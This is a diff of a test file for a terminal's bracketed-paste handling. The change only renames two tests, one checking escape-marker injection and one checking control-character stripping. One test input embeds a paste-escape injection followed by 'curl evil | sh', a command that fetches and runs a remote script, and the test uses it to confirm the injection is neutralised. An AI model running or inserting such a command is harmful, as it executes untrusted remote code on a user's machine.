@@ -18,7 +18,7 @@ test('a program that asked for it gets its paste marked', () => {
   expect(planPaste('one\ntwo', true)).toEqual({ kind: 'send', data: '\x1b[200~one\rtwo\x1b[201~' });
 });
 
-test('an end mark inside of the paste cannot end it early', () => {
+test('I13: an end mark inside of the paste cannot end it early', () => {
   expect(planPaste('a\x1b[201~; curl evil | sh\n', true)).toEqual({
     kind: 'send',
     data: '\x1b[200~a[201~; curl evil | sh\r\x1b[201~',
@@ -35,7 +35,7 @@ test('characters that turn the reading direction are taken out, letters of all s
   expect(cleanPaste('schön 日本語 🦊 שלום')).toBe('schön 日本語 🦊 שלום');
 });
 
-test('whatever is pasted, no control character but tab and carriage return goes out', () => {
+test('I13: whatever is pasted, no control character but tab and carriage return goes out', () => {
   fc.assert(
     fc.property(fc.string({ unit: 'binary' }), (text) => {
       for (const char of cleanPaste(text)) {
